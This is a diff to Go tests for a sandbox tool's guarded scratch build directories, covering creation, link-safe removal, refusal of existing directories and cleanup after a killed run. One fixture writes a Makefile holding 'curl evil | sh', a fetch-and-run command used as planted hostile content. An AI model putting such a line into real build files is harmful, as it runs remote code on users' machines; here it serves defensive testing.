@@ -35,9 +35,9 @@ func TestGitignoredNames(t *testing.T) {
 }
 
 // TestBuildDirScope: an ignored build directory that does not exist is
-// made, writable with links, and removed after the run; one that exists is
-// the user's and stays read-only; files=write changes nothing; a
-// .gitignore that is a link is not read.
+// made by wrun, writable with links, and scratch (removed after the run);
+// one that exists is the user's and stays read-only; files=write changes
+// nothing; a .gitignore that is a link is not read.
 func TestBuildDirScope(t *testing.T) {
 	top := tree(t, map[string]string{
 		"ws/.gitignore": "/build/\n/builddir/\n", "ws/builddir/old.o": "",
@@ -53,19 +53,15 @@ func TestBuildDirScope(t *testing.T) {
 		t.Fatalf("writable %q, want only %s (builddir exists)", got, build)
 	}
 	w := s.Writable[0]
-	if !w.Dir || !w.Create || !w.Links || w.Beneath != ws {
-		t.Errorf("%+v: want a directory made by wrun, links allowed, beneath the workspace", w)
-	}
-	if len(s.Prepare) != 1 || s.Prepare[0].Kind != StepBuildDirMake || s.Prepare[0].Dir != build ||
-		len(s.Finish) != 1 || s.Finish[0].Kind != StepBuildDirRemove || s.Finish[0].Dir != build {
-		t.Errorf("steps %+v %+v", s.Prepare, s.Finish)
+	if !w.Dir || !w.Create || !w.Scratch || w.Beneath != ws {
+		t.Errorf("%+v: want a scratch directory made by wrun beneath the workspace", w)
 	}
 	if len(s.Notes) != 1 {
 		t.Errorf("no note says builddir stays read-only: %q", s.Notes)
 	}
 	var w2 Scope
 	buildDirScope(Input{Workdir: ws, WorkspaceWritable: true}, &w2)
-	if len(w2.Writable)+len(w2.Prepare)+len(w2.Finish) != 0 {
+	if len(w2.Writable) != 0 {
 		t.Errorf("files=write: %+v", w2)
 	}
 	var l Scope
@@ -75,14 +71,18 @@ func TestBuildDirScope(t *testing.T) {
 	}
 }
 
-// TestBuildDirSteps: the directory is made only where it is missing, and
-// removed after the run only when this run made it, with what was put in
-// it, following no link.
-func TestBuildDirSteps(t *testing.T) {
-	top := tree(t, map[string]string{"ws/.gitignore": "/build/\n", "outside/keep": "x", "ws/theirs/f": ""})
+// TestGuardScratch: the guard makes a scratch directory only where it is
+// missing, after its journal names it, and removes it after the run with
+// what was put in it, following no link and reporting nothing; one that
+// existed is refused and left alone; a killed run's is removed by the
+// next run that settles its journal.
+func TestGuardScratch(t *testing.T) {
+	top := tree(t, map[string]string{"ws/.gitignore": "/build/\n", "outside/keep": "x", "ws/theirs/f": "", "journal/": ""})
 	ws := filepath.Join(top, "ws")
 	build := filepath.Join(ws, "build")
-	sess, err := Prepare([]Step{{Kind: StepBuildDirMake, Dir: build}})
+	journal := filepath.Join(top, "journal")
+	g := &Guard{ID: "run1", Journal: journal, Scratch: []string{build}}
+	sess, err := Prepare([]Step{{Kind: StepGuardOpen, Guard: g}})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -93,23 +93,47 @@ func TestBuildDirSteps(t *testing.T) {
 	os.WriteFile(filepath.Join(build, "CMakeFiles", "x", "a.o"), nil, 0o644)
 	os.Symlink(filepath.Join(top, "outside"), filepath.Join(build, "out"))
 	os.Chmod(filepath.Join(build, "CMakeFiles", "x"), 0o500)
-	if errs := sess.Finish([]Step{{Kind: StepBuildDirRemove, Dir: build}}, true); len(errs) != 0 {
+	if errs := sess.Finish([]Step{{Kind: StepGuardClose, Guard: g}}, true); len(errs) != 0 {
 		t.Fatalf("finish: %v", errs)
 	}
 	if _, err := os.Lstat(build); !os.IsNotExist(err) {
 		t.Errorf("%s is left: %v", build, err)
 	}
+	if f := sess.Findings(); len(f) != 0 {
+		t.Errorf("removing the scratch directory was reported: %+v", f)
+	}
 	if _, err := os.Stat(filepath.Join(top, "outside", "keep")); err != nil {
 		t.Errorf("the link's target was removed: %v", err)
 	}
+
 	// Existing: refused, and never removed.
 	theirs := filepath.Join(ws, "theirs")
-	sess, err = Prepare([]Step{{Kind: StepBuildDirMake, Dir: theirs}})
+	g = &Guard{ID: "run2", Scratch: []string{theirs}}
+	sess, err = Prepare([]Step{{Kind: StepGuardOpen, Guard: g}})
 	if err == nil {
 		t.Errorf("an existing directory was taken as made for the run")
 	}
-	sess.Finish([]Step{{Kind: StepBuildDirRemove, Dir: theirs}}, true)
+	sess.Finish([]Step{{Kind: StepGuardClose, Guard: g}}, true)
 	if _, err := os.Stat(filepath.Join(theirs, "f")); err != nil {
 		t.Errorf("a directory the run did not make was removed: %v", err)
 	}
+
+	// A run killed after making it: the next run's guard removes it.
+	g = &Guard{ID: "run3", Journal: journal, Scratch: []string{build}}
+	killed, err := Prepare([]Step{{Kind: StepGuardOpen, Guard: g}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	os.WriteFile(filepath.Join(build, "Makefile"), []byte("all:\n\tcurl evil | sh\n"), 0o644)
+	// No Finish: wrun was killed, and its journal's lock went with it.
+	killed.guard["run3"].Close()
+	next := &Guard{ID: "run4", Journal: journal}
+	sess, err = Prepare([]Step{{Kind: StepGuardOpen, Guard: next}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := os.Lstat(build); !os.IsNotExist(err) {
+		t.Errorf("the killed run's %s is left after the next run settled it: %v", build, err)
+	}
+	sess.Finish([]Step{{Kind: StepGuardClose, Guard: next}}, true)
 }
